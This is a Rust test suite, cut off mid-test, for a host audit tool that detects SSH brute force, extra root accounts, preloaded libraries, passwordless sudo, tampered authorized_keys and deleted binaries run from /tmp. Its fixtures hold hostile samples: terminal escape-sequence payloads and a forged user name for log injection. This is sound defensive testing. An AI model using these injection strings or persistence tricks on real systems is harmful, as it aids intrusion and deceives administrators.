//! `monitor audit`: on fixture files written in the real formats (and the loghub auth.log), and
//! on the live system with a real ssh session open.
use std::{
    collections::{BTreeMap, HashMap},
    io::Write,
    net::TcpListener,
    path::{Path, PathBuf},
    process::{Command, Output},
    time::Duration,
};

use monitor_e2e::{loghub, marker, monitor_bin, records, require_root, ssh::SshFixture, Value};

fn audit(args: &[&str]) -> Output {
    require_root();
    Command::new(monitor_bin())
        .arg("audit")
        .args(args)
        .output()
        .unwrap()
}

fn json(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stdout)))
}

/// The `--json` report in `out` meets docs/audit.schema.json (checked with Python's
/// jsonschema; the report is written to `dir`).
fn assert_meets_schema(dir: &Path, out: &Output) {
    let schema = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../docs/audit.schema.json");
    let report = dir.join("report.json");
    std::fs::write(&report, &out.stdout).unwrap();
    let check = Command::new("/usr/bin/python3")
        .args(["-c", "import json,sys,jsonschema; jsonschema.validate(json.load(open(sys.argv[1])), json.load(open(sys.argv[2])))"])
        .arg(&report)
        .arg(&schema)
        .output()
        .unwrap();
    assert!(
        check.status.success(),
        "schema: {}",
        String::from_utf8_lossy(&check.stderr)
    );
}

/// `md5sum`'s digest of `bytes`, as dpkg records it.
fn md5_hex(bytes: &[u8]) -> String {
    let out = Command::new("md5sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            c.stdin.take().unwrap().write_all(bytes)?;
            c.wait_with_output()
        })
        .unwrap();
    String::from_utf8_lossy(&out.stdout)[..32].to_owned()
}

/// A system's files under a temporary directory (removed on drop), for `--files-root`.
fn fake_system(name: &str) -> Fixture {
    let dir = std::env::temp_dir().join(marker(name));
    std::fs::create_dir_all(dir.join("etc")).unwrap();
    Fixture { dir }
}

/// `monitor audit` of the system under `root`, its own etc/passwd for the accounts, with
/// `extra` options.
fn audit_system(root: &Path, extra: &[&str]) -> Output {
    let passwd = root.join("etc/passwd");
    let args = [
        "--files-root",
        root.to_str().unwrap(),
        "--passwd",
        passwd.to_str().unwrap(),
    ];
    audit(&[&args[..], extra].concat())
}

/// A directory of fixture sources; `args()` points the audit at all of them.
struct Fixture {
    dir: PathBuf,
}

impl Fixture {
    fn args(&self) -> Vec<String> {
        let p = |n: &str| self.dir.join(n).to_string_lossy().into_owned();
        vec![
            "--auth-log".into(),
            p("auth.log"),
            "--wtmp".into(),
            p("wtmp"),
            "--btmp".into(),
            p("btmp"),
            "--utmp".into(),
            p("utmp"),
            "--lastlog".into(),
            p("lastlog"),
            "--passwd".into(),
            p("passwd"),
            // the live system's packages are no part of these fixtures (and take seconds)
            "--quick".into(),
        ]
    }
}

impl Drop for Fixture {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// The brute-force-then-success the audit must put first.
const CRACKED_IP: &str = "203.0.113.7";
/// Failures spread over the rotated files (.1 and .2.gz).
const ROTATED_IP: &str = "198.51.100.23";

fn write_fixture() -> Fixture {
    let dir = std::env::temp_dir().join(marker("audit"));
    std::fs::create_dir_all(&dir).unwrap();
    // the current auth.log: loghub's 2,000 lines (Dec 10), then ours (Dec 11)
    let mut log = loghub::fixture("OpenSSH_2k.log");
    if !log.ends_with('\n') {
        log.push('\n');
    }
    for i in 0..5 {
        log.push_str(&format!(
            "Dec 11 10:00:0{i} LabSZ sshd[31000]: Failed password for deploy from {CRACKED_IP} port 5100{i} ssh2\n"
        ));
    }
    log.push_str(&format!(
        "Dec 11 10:00:30 LabSZ sshd[31000]: Accepted password for deploy from {CRACKED_IP} port 51010 ssh2\n"
    ));
    // rotated: older lines, one plain, one gzipped
    let older = |n: usize, day: u32| -> String {
        (0..n)
            .map(|i| {
                format!("Dec  {day} 09:00:0{i} LabSZ sshd[30000]: Failed password for invalid user oracle from {ROTATED_IP} port 4000{i} ssh2\n")
            })
            .collect()
    };
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(older(2, 8).as_bytes()).unwrap();
    std::fs::write(dir.join("auth.log.2.gz"), gz.finish().unwrap()).unwrap();
    std::thread::sleep(Duration::from_millis(20));
    std::fs::write(dir.join("auth.log.1"), older(3, 9)).unwrap();
    std::thread::sleep(Duration::from_millis(20));
    std::fs::write(dir.join("auth.log"), log).unwrap();

    let t = 1_764_000_000;
    let mut wtmp = records::utmp(records::BOOT_TIME, 0, "~", "reboot", "6.18.0", t);
    wtmp.extend(records::utmp(
        records::USER_PROCESS,
        4242,
        "pts/3",
        "deploy",
        CRACKED_IP,
        t + 100,
    ));
    wtmp.extend(records::utmp(
        records::DEAD_PROCESS,
        4242,
        "pts/3",
        "",
        "",
        t + 400,
    ));
    std::fs::write(dir.join("wtmp"), wtmp).unwrap();
    let btmp: Vec<u8> = (0..3)
        .flat_map(|i| {
            records::utmp(
                records::USER_PROCESS,
                0,
                "ssh:notty",
                "admin",
                CRACKED_IP,
                t + i,
            )
        })
        .collect();
    std::fs::write(dir.join("btmp"), btmp).unwrap();
    std::fs::write(
        dir.join("lastlog"),
        records::lastlog(&[(1001, t + 100, "pts/3", CRACKED_IP)]),
    )
    .unwrap();
    std::fs::write(
        dir.join("passwd"),
        "root:x:0:0:root:/root:/bin/bash\n\
         daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
         deploy:x:1001:1001::/home/deploy:/bin/bash\n\
         alice:x:1002:1002::/home/alice:/bin/bash\n\
         toor:x:0:0::/root:/bin/sh\n",
    )
    .unwrap();
    Fixture { dir }
}

#[test]
fn counts_per_address_and_user_match_the_fixture_and_the_cracked_login_is_first() {
    let fx = write_fixture();
    let args = fx.args();
    let out = audit(
        &[
            args.iter().map(String::as_str).collect::<Vec<_>>(),
            vec!["--json"],
        ]
        .concat(),
    );
    assert_eq!(
        out.status.code(),
        Some(2),
        "high findings → exit 2: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r = json(&out);

    // expected counts: the ground truth, plus what this test wrote
    let mut by_ip: HashMap<String, (u64, u64)> = HashMap::new();
    let mut by_user: HashMap<String, (u64, u64)> = HashMap::new();
    let mut add = |ok: bool, user: &str, ip: &str, n: u64| {
        let e = by_ip.entry(ip.to_owned()).or_default();
        let u = by_user.entry(user.to_owned()).or_default();
        if ok {
            e.1 += n;
            u.1 += n;
        } else {
            e.0 += n;
            u.0 += n;
        }
    };
    for (ok, user, ip, n) in loghub::logins() {
        add(ok, &user, &ip, n);
    }
    add(false, "deploy", CRACKED_IP, 5);
    add(true, "deploy", CRACKED_IP, 1);
    add(false, "oracle", ROTATED_IP, 5);

    // (failed, accepted) by `key` in one of the report's auth tables
    let counts = |table: &str, key: &str| -> HashMap<String, (u64, u64)> {
        r["auth"][table]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| {
                let n = |f: &str| e[f].as_u64().unwrap();
                (
                    e[key].as_str().unwrap().to_owned(),
                    (n("failed"), n("accepted")),
                )
            })
            .collect()
    };
    assert_eq!(
        counts("by_ip", "ip"),
        by_ip,
        "failed/accepted per source address"
    );
    let got_user = counts("by_user", "user");
    assert_eq!(got_user, by_user, "failed/accepted per user");

    let top = &r["findings"][0];
    assert_eq!(top["severity"], "high");
    assert_eq!(top["kind"], "login_after_failures", "{top}");
    assert!(top["title"].as_str().unwrap().contains(CRACKED_IP), "{top}");
    assert!(
        top["title"].as_str().unwrap().contains("after 5 failed"),
        "{top}"
    );
    assert!(top["next_step"].as_str().unwrap().contains("compromised"));
    let kinds: Vec<&str> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["kind"].as_str().unwrap())
        .collect();
    assert!(kinds.contains(&"extra_uid0_account"), "toor: {kinds:?}");
    assert!(
        kinds.contains(&"brute_force") && kinds.contains(&"invalid_users"),
        "{kinds:?}"
    );

    // accounts with a login shell and their last login; wtmp logins and reboot; btmp
    let accounts = r["accounts"].as_array().unwrap();
    assert_eq!(accounts.len(), 4, "daemon has no login shell");
    let deploy = accounts.iter().find(|a| a["user"] == "deploy").unwrap();
    assert_eq!(deploy["last_login"]["host"], CRACKED_IP);
    assert!(accounts.iter().find(|a| a["user"] == "alice").unwrap()["last_login"].is_null());
    let logins = r["logins"].as_array().unwrap();
    assert_eq!(logins[0]["user"], "deploy");
    assert!(logins[0]["end"].is_string());
    assert_eq!(logins[1]["kind"], "reboot");
    assert_eq!(r["failed_login_records"], 3);
    // every source is accounted for, the missing utmp and the gzipped rotation included
    let sources = r["sources"].as_array().unwrap();
    let status = |suffix: &str| -> String {
        let s = sources
            .iter()
            .find(|s| s["path"].as_str().unwrap().ends_with(suffix))
            .unwrap();
        format!("{} {}", s["status"].as_str().unwrap(), s["items"])
    };
    assert_eq!(status("auth.log.2.gz"), "read 2");
    assert_eq!(status("auth.log.1"), "read 3");
    assert_eq!(status("/utmp"), "missing 0");
}

#[test]
fn json_validates_against_the_documented_schema_and_text_fits_80_columns() {
    let fx = write_fixture();
    let args = fx.args();
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = audit(&[args.clone(), vec!["--json"]].concat());
    assert_meets_schema(&fx.dir, &out);
    let v = json(&out);
    assert_eq!(v["complete"], true, "as root: {}", v["unreadable"]);
    assert_eq!(v["unreadable"], serde_json::json!([]));

    let text = audit(&args);
    assert_eq!(text.status.code(), Some(2));
    let text = String::from_utf8(text.stdout).unwrap();
    for line in text.lines() {
        assert!(
            line.chars().count() <= 80,
            "wider than 80 columns: {line:?}"
        );
        assert!(!line.contains('\x1b'), "no colour when not a terminal");
    }
    assert!(text.contains("FINDINGS") && text.contains(CRACKED_IP));
}

/// `monitor audit` run without root must not read as a clean bill of health: it says at the top
/// what it could not read, `--json` has `complete: false`, and it exits 3 (2 if high findings).
#[test]
fn without_root_the_audit_says_it_is_incomplete_and_exits_with_its_own_status() {
    use std::os::unix::fs::PermissionsExt;
    require_root();
    let fx = write_fixture();
    // auth logs readable by root only (Debian's are root:adm 0640)
    for entry in std::fs::read_dir(&fx.dir).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let mode = if name.starts_with("auth.log") {
            0o600
        } else {
            0o644
        };
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
    }
    std::fs::set_permissions(&fx.dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    // a copy nobody may run (the build's own may be under a private home)
    let bin = fx.dir.join("monitor");
    std::fs::copy(monitor_bin(), &bin).unwrap();
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    let as_nobody = |extra: &[&str]| {
        Command::new("setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
            .arg(&bin)
            .arg("audit")
            .args(fx.args())
            .args(extra)
            .output()
            .unwrap()
    };
    let out = as_nobody(&["--json"]);
    let v = json(&out);
    assert_eq!(v["complete"], false, "{v}");
    let unreadable = v["unreadable"].as_array().unwrap();
    let auth = fx.dir.join("auth.log").to_string_lossy().into_owned();
    assert!(
        unreadable
            .iter()
            .any(|u| u["path"] == auth.as_str() && u["reason"].as_str().unwrap().contains("denied")),
        "{unreadable:?}"
    );
    assert!(
        unreadable.iter().any(|u| u["kind"] == "proc"),
        "other users' processes are hidden: {unreadable:?}"
    );
    let high = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "high")
        .count();
    let expected = if high > 0 { 2 } else { 3 };
    assert_eq!(out.status.code(), Some(expected), "{high} high findings");
    // the text says so before anything else
    let text = as_nobody(&[]);
    assert_eq!(text.status.code(), Some(expected));
    let text = String::from_utf8(text.stdout).unwrap();
    let top: Vec<&str> = text.lines().take(4).collect();
    assert!(top[1].starts_with("INCOMPLETE"), "{top:?}");
    assert!(top[2..].join(" ").contains(&auth), "{top:?}");
}

#[test]
fn hostile_strings_in_logs_reach_the_terminal_escaped() {
    let fx = write_fixture();
    let log = fx.dir.join("auth.log");
    let mut f = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
    writeln!(f, "Dec 11 11:00:00 LabSZ sshd[31001]: Invalid user \x1b]0;pwned\x07\x1b[2J from 192.0.2.66 port 1").unwrap();
    drop(f);
    let args = fx.args();
    let text = audit(&args.iter().map(String::as_str).collect::<Vec<_>>());
    let text = String::from_utf8(text.stdout).unwrap();
    assert!(
        !text.contains('\x1b') && !text.contains('\x07'),
        "raw escape sequence on the terminal"
    );
    assert!(text.contains("\\x1b]0;pwned"), "shown escaped");
}

#[test]
fn a_forged_user_name_is_a_log_injection_finding() {
    let fx = write_fixture();
    let log = fx.dir.join("auth.log");
    let mut f = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
    // what sshd writes when a client sends the user name `bob from 10.9.9.9 port 22`
    writeln!(f, "Dec 11 11:00:00 LabSZ sshd[31002]: Invalid user bob from 10.9.9.9 port 22 from 192.0.2.67 port 4242").unwrap();
    drop(f);
    let args = fx.args();
    let mut args: Vec<&str> = args.iter().map(String::as_str).collect();
    args.push("--json");
    let report = json(&audit(&args));
    let finding = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == "log_injection")
        .unwrap_or_else(|| panic!("no log_injection finding: {report}"));
    assert_eq!(finding["severity"], "high");
    assert!(finding["evidence"][0]
        .as_str()
        .is_some_and(|e| e.contains("bob from 10.9.9.9 port 22 from 192.0.2.67")));
}

fn live_audit(fx: &SshFixture) -> Value {
    let out = audit(&[
        "--json",
        "--quick",
        "--auth-log",
        fx.auth_log.to_str().unwrap(),
    ]);
    assert!(
        out.status.code().is_some_and(|c| c == 0 || c == 2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    json(&out)
}

#[test]
fn an_open_ssh_session_and_a_test_listener_appear_with_their_source_and_process() {
    let fx = SshFixture::get();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut ssh = fx.open_session("sleep 20", true);
    let r = live_audit(fx);
    let _ = ssh.kill();
    let _ = ssh.wait();
    let sessions = r["current_sessions"].as_array().unwrap();
    let ours = sessions
        .iter()
        .find(|s| s["user"] == fx.user.as_str())
        .unwrap_or_else(|| panic!("no session of {} in {sessions:?}", fx.user));
    assert_eq!(ours["source_ip"], "127.0.0.1");
    let listening = r["network"]["listening"].as_array().unwrap();
    let mine = listening
        .iter()
        .find(|s| s["local"] == format!("127.0.0.1:{port}"))
        .unwrap_or_else(|| panic!("listener on {port} missing"));
    assert_eq!(mine["pid"], std::process::id());
    drop(listener);
}

#[test]
fn a_deleted_binary_run_from_tmp_is_flagged_with_its_session() {
    let fx = SshFixture::get();
    let name = format!("/tmp/{}", marker("sleepy"));
    let mut ssh = fx.open_session(
        &format!("cp /bin/sleep {name}; {name} 30 & sleep 0.5; rm {name}; sleep 30"),
        true,
    );
    let r = live_audit(fx);
    // the same rules as the live alerts judge it: exempt the path, and it is no finding
    let rules = std::env::temp_dir().join(format!("{}.toml", marker("rules")));
    std::fs::write(
        &rules,
        format!(
            "[[rule]]\nid = \"MON-2001\"\nallow = {{ executables = [\"{name}\"] }}\n\
             [[rule]]\nid = \"MON-2003\"\nallow = {{ executables = [\"{name} (deleted)\"] }}\n"
        ),
    )
    .unwrap();
    let exempted = json(&audit(&[
        "--json",
        "--quick",
        "--auth-log",
        fx.auth_log.to_str().unwrap(),
        "--rules",
        rules.to_str().unwrap(),
    ]));
    let _ = std::fs::remove_file(&rules);
    let _ = ssh.kill();
    let _ = ssh.wait();
    let _ = Command::new("pkill").args(["-f", &name]).status();
    assert!(
        !exempted["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["title"].as_str().unwrap().contains(&name)),
        "exempted by the rules file: {exempted}"
    );
    let procs = r["processes"].as_array().unwrap();
    let p = procs
        .iter()
        .find(|p| {
            p["executable"]
                .as_str()
                .is_some_and(|e| e.starts_with(&name))
        })
        .unwrap_or_else(|| panic!("{name} not flagged: {procs:?}"));
    let traits: Vec<&str> = p["traits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap())
        .collect();
    assert!(
        traits.contains(&"deleted_executable") && traits.contains(&"executable_in_tmp"),
        "{traits:?}"
    );
    assert_eq!(p["session"]["user"], fx.user.as_str());
    assert_eq!(p["session"]["source_ip"], "127.0.0.1");
    assert_eq!(p["user"], fx.user.as_str());
    let finding = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == "suspicious_process" && f["title"].as_str().unwrap().contains(&name))
        .expect("a finding for it");
    assert_eq!(finding["severity"], "high");
    assert!(
        finding["evidence"].as_array().unwrap().iter().any(|e| e
            .as_str()
            .unwrap()
            .starts_with("rule MON-2003 exec_of_deleted_file (high)")),
        "{finding}"
    );
    assert!(!Path::new(&name).exists());
}

fn parent_of(pid: u32) -> u32 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    let after = stat.rsplit_once(')').map(|(_, r)| r).unwrap_or_default();
    after
        .split_whitespace()
        .nth(1)
        .and_then(|v| v.parse().ok())
        .unwrap_or(0)
}

/// `pid` and its ancestors below `stop`, when `stop` is one of its ancestors (else none).
fn ancestors_below(pid: u32, stop: u32) -> Option<Vec<u32>> {
    let mut out = Vec::new();
    let mut p = pid;
    while p > 1 {
        if p == stop {
            return Some(out);
        }
        out.push(p);
        p = parent_of(p);
    }
    None
}

/// The processes of the ssh session whose command contains `mk`: its shell and the sshd
/// processes above it, below the listening sshd `listener` (the ssh client, which also has `mk`
/// in its command line, descends from this test instead).
fn session_processes(mk: &str, listener: u32) -> Vec<u32> {
    for _ in 0..100 {
        for e in std::fs::read_dir("/proc").unwrap().flatten() {
            let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
                continue;
            };
            let cmd = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            if !String::from_utf8_lossy(&cmd).contains(mk) {
                continue;
            }
            if let Some(chain) = ancestors_below(pid, listener) {
                return chain;
            }
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("no process of the session with {mk}");
}

/// Logins with no logout record, as `last -F` reads the same wtmp: a live session is
/// `still logged in`; one whose sshd was killed with SIGKILL (no logout written) is
/// `gone - no logout`, not "still in".
#[test]
fn login_states_agree_with_last_for_a_live_and_a_killed_session() {
    require_root();
    let fx = SshFixture::get();
    let since = chrono::DateTime::<chrono::Utc>::from(
        std::time::SystemTime::now() - Duration::from_secs(2),
    );
    let (live_mk, killed_mk) = (marker("live"), marker("killed"));
    let mut live = fx.open_session(&format!("sleep 120; echo {live_mk}"), true);
    let mut killed = fx.open_session(&format!("sleep 120; echo {killed_mk}"), true);
    // the killed session's sshd processes die at once: nothing writes its logout
    let chain = session_processes(&killed_mk, fx.sshd_pid());
    // the shell's process group too (its `sleep`), so nothing of the session lingers
    // SAFETY: kill(2) on the process group this test's ssh session leads.
    unsafe { libc::kill(-(chain[0] as i32), libc::SIGKILL) };
    for pid in chain {
        // SAFETY: kill(2) on a process of this test's ssh session.
        unsafe { libc::kill(pid as i32, libc::SIGKILL) };
    }
    let _ = killed.kill();
    let _ = killed.wait();
    std::thread::sleep(Duration::from_millis(500));

    let text = fx.last();
    // (tty, start) → state, for this test's logins
    let mut by_last = BTreeMap::new();
    for row in text.lines() {
        let f: Vec<&str> = row.split_whitespace().collect();
        let Some(start) = f
            .get(3)
            .and_then(|t| chrono::DateTime::parse_from_rfc3339(t).ok())
        else {
            continue;
        };
        if start < since {
            continue;
        }
        let state = if row.contains("still logged in") {
            "still_logged_in"
        } else if row.contains("gone - no logout") {
            "gone_no_logout"
        } else if row.contains("crash") {
            "crash"
        } else if row.contains(" down ") {
            "down"
        } else {
            "logged_out"
        };
        let start = start
            .with_timezone(&chrono::Utc)
            .format("%Y-%m-%dT%H:%M:%SZ");
        by_last.insert((f[1].to_owned(), start.to_string()), state.to_owned());
    }
    let report = json(&audit(&["--json", "--quick"]));
    let mut by_audit = BTreeMap::new();
    for l in report["logins"].as_array().unwrap() {
        let start = l["start"].as_str().unwrap();
        if l["user"] != fx.user.as_str()
            || chrono::DateTime::parse_from_rfc3339(start).unwrap() < since
        {
            continue;
        }
        by_audit.insert(
            (l["tty"].as_str().unwrap().to_owned(), start.to_owned()),
            l["state"].as_str().unwrap().to_owned(),
        );
    }
    let text_report = String::from_utf8(audit(&["--quick"]).stdout).unwrap();
    let _ = live.kill();
    let _ = live.wait();
    let states: Vec<&str> = by_audit.values().map(String::as_str).collect();
    assert!(
        states.contains(&"still_logged_in") && states.contains(&"gone_no_logout"),
        "both kinds: {by_audit:?}\nlast:\n{text}"
    );
    assert_eq!(by_audit, by_last, "audit (left) and last -F (right)");
    assert!(text_report.contains("gone - no logout"), "{text_report}");
    assert!(text_report.contains("still logged in"), "{text_report}");
}

/// A system under `--files-root` with every kind of leftover the FILES section looks for: a
/// preloaded library, an empty password, a sudo rule without a password, a key file others can
/// write, a key for an account without a login shell — each a finding of its own, with the
/// fingerprint `ssh-keygen -l` gives, in JSON that meets the schema and text within 80 columns.
#[test]
fn the_files_section_finds_what_an_intruder_leaves_behind_under_files_root() {
    use std::os::unix::fs::PermissionsExt;
    let fx = fake_system("files-root");
    let root = fx.dir.clone();
    for d in [
        "etc/sudoers.d",
        "home/alice/.ssh",
        "home/bob/.ssh",
        "var/lib/svc/.ssh",
        "lib",
    ] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    let w = |p: &str, s: &str| std::fs::write(root.join(p), s).unwrap();
    w(
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n\
         alice:x:1000:1000::/home/alice:/bin/bash\n\
         bob:x:1001:1001::/home/bob:/bin/bash\n\
         svc:x:998:998::/var/lib/svc:/usr/sbin/nologin\n",
    );
    // alice's password was set today (days since 1970, as shadow counts)
    let today = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        / 86_400;
    w(
        "etc/shadow",
        &format!(
            "root:$6$salt$hash:19000::::::\nalice:$6$s$h:{today}::::::\nbob::19000::::::\n\
             svc:!:1::::::\n"
        ),
    );
    w("etc/ld.so.preload", "# added\n/lib/libsneaky.so\n");
    w("lib/libsneaky.so", "");
    w(
        "etc/sudoers",
        "root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
    );
    w("etc/sudoers.d/svc", "svc ALL=(ALL) NOPASSWD: ALL\n");
    // a directory there is no file sudo reads (and no unreadable source)
    std::fs::create_dir_all(root.join("etc/sudoers.d/old")).unwrap();
    // a file sudo skips (a dot in its name)
    w("etc/sudoers.d/old.bak", "bob ALL=(ALL) NOPASSWD: ALL\n");
    // a fresh key, and what ssh-keygen says of it
    let key = root.join("k");
    let made = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "intruder@evil"])
        .arg("-f")
        .arg(&key)
        .output()
        .unwrap();
    assert!(made.status.success(), "{made:?}");
    let public = std::fs::read_to_string(key.with_extension("pub")).unwrap();
    let printed = Command::new("ssh-keygen")
        .arg("-lf")
        .arg(key.with_extension("pub"))
        .output()
        .unwrap();
    let fingerprint = String::from_utf8_lossy(&printed.stdout)
        .split_whitespace()
        .nth(1)
        .unwrap()
        .to_owned();
    // alice's keys: writable by everyone, one line that is no key
    w(
        "home/alice/.ssh/authorized_keys",
        &format!("{public}not a key\n"),
    );
    std::fs::set_permissions(
        root.join("home/alice/.ssh/authorized_keys"),
        std::fs::Permissions::from_mode(0o666),
    )
    .unwrap();
    // bob's: a proper file (its change is recent: a medium finding, not a high one)
    w("home/bob/.ssh/authorized_keys", &public);
    std::fs::set_permissions(
        root.join("home/bob/.ssh/authorized_keys"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    for d in ["home/bob", "home/bob/.ssh", "home/alice", "home/alice/.ssh"] {
        std::fs::set_permissions(root.join(d), std::fs::Permissions::from_mode(0o700)).unwrap();
    }
    // sshd told to read keys from elsewhere too (in an included file), and root's key there
    std::fs::create_dir_all(root.join("etc/ssh/sshd_config.d")).unwrap();
    std::fs::create_dir_all(root.join("etc/ssh/keys")).unwrap();
    w(
        "etc/ssh/sshd_config",
        "Include /etc/ssh/sshd_config.d/*.conf\nPasswordAuthentication yes\n",
    );
    w(
        "etc/ssh/sshd_config.d/50-extra.conf",
        "PermitRootLogin yes\n\
         AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2 /etc/ssh/keys/%u\n",
    );
    w("etc/ssh/keys/root", &public);
    // the service account's, with a forced command
    w(
        "var/lib/svc/.ssh/authorized_keys",
        &format!("command=\"/usr/bin/rsync --server\",no-pty {public}"),
    );
    // svc's second key file: an absolute link inside the image (no such file on this system)
    w("etc/ssh/keys/svc2", &public);
    std::os::unix::fs::symlink(
        "/etc/ssh/keys/svc2",
        root.join("var/lib/svc/.ssh/authorized_keys2"),
    )
    .unwrap();
    let out = audit_system(&root, &["--json"]);
    assert_eq!(out.status.code(), Some(2), "high findings");
    assert_meets_schema(&root, &out);
    let r = json(&out);
    let files = &r["files"];
    assert_eq!(
        files["ld_so_preload"],
        serde_json::json!(["/lib/libsneaky.so"])
    );
    assert_eq!(files["empty_passwords"], serde_json::json!(["bob"]));
    let recent = files["recent_accounts"].as_array().unwrap();
    let alice = recent
        .iter()
        .find(|a| a["user"] == "alice")
        .unwrap_or_else(|| panic!("alice's password was set today: {recent:?}"));
    let day = chrono::DateTime::<chrono::Utc>::from_timestamp(today as i64 * 86_400, 0).unwrap();
    assert_eq!(
        alice["password_set"],
        day.format("%Y-%m-%d").to_string().as_str()
    );
    assert!(
        !recent.iter().any(|a| a["user"] == "svc"),
        "no login shell: {recent:?}"
    );
    let sudo = files["sudo_nopasswd"].as_array().unwrap();
    assert_eq!(sudo.len(), 1, "{sudo:?}");
    assert_eq!(sudo[0]["path"], "/etc/sudoers.d/svc");
    let sources = r["sources"].as_array().unwrap();
    assert!(
        !sources
            .iter()
            .any(|s| s["path"].as_str().unwrap().ends_with("sudoers.d/old")),
        "{sources:?}"
    );
    let key_files = files["authorized_keys"].as_array().unwrap();
    let of = |user: &str| {
        key_files
            .iter()
            .find(|k| k["user"] == user)
            .unwrap_or_else(|| panic!("no key file of {user}: {key_files:?}"))
    };
    let svc2 = key_files
        .iter()
        .find(|k| k["path"] == "/var/lib/svc/.ssh/authorized_keys2")
        .unwrap_or_else(|| panic!("the linked key file, read in the image: {key_files:?}"));
    assert_eq!(svc2["keys"][0]["fingerprint"], fingerprint.as_str());
    assert_eq!(of("alice")["mode"], "0666");
    assert_eq!(of("alice")["bad_lines"], serde_json::json!([2]));
    let bob = &of("bob")["keys"][0];
    assert_eq!(bob["fingerprint"], fingerprint.as_str(), "as ssh-keygen -l");
    assert_eq!(bob["key_type"], "ssh-ed25519");
    assert_eq!(bob["comment"], "intruder@evil");
    assert_eq!(
        of("svc")["keys"][0]["options"],
        "command=\"/usr/bin/rsync --server\",no-pty"
    );
    // each its finding, at its severity
    let findings = r["findings"].as_array().unwrap();
    let severity = |kind: &str, about: &str| -> Vec<String> {
        findings
            .iter()
            .filter(|f| f["kind"] == kind && f["title"].as_str().unwrap().contains(about))
            .map(|f| f["severity"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(severity("ld_so_preload", "1 library"), ["high"]);
    assert_eq!(
        severity("sshd_authorized_keys_file", "/etc/ssh/keys/%u"),
        ["medium"]
    );
    assert_eq!(severity("sshd_root_password_login", "root"), ["medium"]);
    assert_eq!(
        of("root")["path"],
        "/etc/ssh/keys/root",
        "the keys sshd was told to read"
    );
    assert_eq!(of("root")["keys"][0]["fingerprint"], fingerprint.as_str());
    assert_eq!(severity("account_added_recently", "alice"), ["medium"]);
    assert_eq!(severity("empty_password", "bob"), ["high"]);
    assert_eq!(severity("authorized_keys_writable", "alice"), ["high"]);
    assert!(severity("authorized_keys_writable", "bob").is_empty());
    // its two files: authorized_keys and the linked authorized_keys2
    assert_eq!(
        severity("authorized_keys_no_login_shell", "svc"),
        ["medium", "medium"]
    );
    assert_eq!(severity("authorized_keys_changed", "bob"), ["medium"]);
    // changed just now, so medium (a rule in an old file would be low)
    assert_eq!(severity("sudo_nopasswd_all", "svc"), ["medium"]);
    let writable = findings
        .iter()
        .find(|f| f["kind"] == "authorized_keys_writable")
        .unwrap();
    let evidence = writable["evidence"].to_string();
    assert!(
        evidence.contains("mode 0666") && evidence.contains(&fingerprint),
        "{evidence}"
    );

    let text = audit_system(&root, &[]);
    let text = String::from_utf8(text.stdout).unwrap();
    for line in text.lines() {
        assert!(line.chars().count() <= 80, "wider than 80: {line:?}");
    }
    assert!(
        text.contains("FILES") && text.contains(&fingerprint),
        "{text}"
    );
    drop(fx);
}

/// On the live system: the ssh fixture's user logs in with a key from its authorized_keys,
/// and the audit lists that file with the key's fingerprint — the one sshd logs.
#[test]
fn the_live_audit_lists_the_key_the_ssh_user_logs_in_with() {
    let fx = SshFixture::get();
    let r = live_audit(fx);
    let files = r["files"]["authorized_keys"].as_array().unwrap();
    let mine = files
        .iter()
        .find(|f| f["user"] == fx.user.as_str())
        .unwrap_or_else(|| panic!("no authorized_keys of {}: {files:?}", fx.user));
    assert_eq!(mine["owner"], fx.user.as_str());
    assert_eq!(
        mine["keys"][0]["fingerprint"],
        fx.key_fingerprint().as_str()
    );
}

/// A dpkg database under `--files-root`: a program of a package replaced (high, naming the
/// package and the file), a data file changed (low), a diverted file checked where it was
/// moved, an edited configuration file (low), a program no package owns (medium).
#[test]
fn a_program_replaced_outside_the_package_manager_is_named_with_its_package() {
    use std::os::unix::fs::PermissionsExt;
    let fx = fake_system("dpkg-root");
    let root = fx.dir.clone();
    for d in [
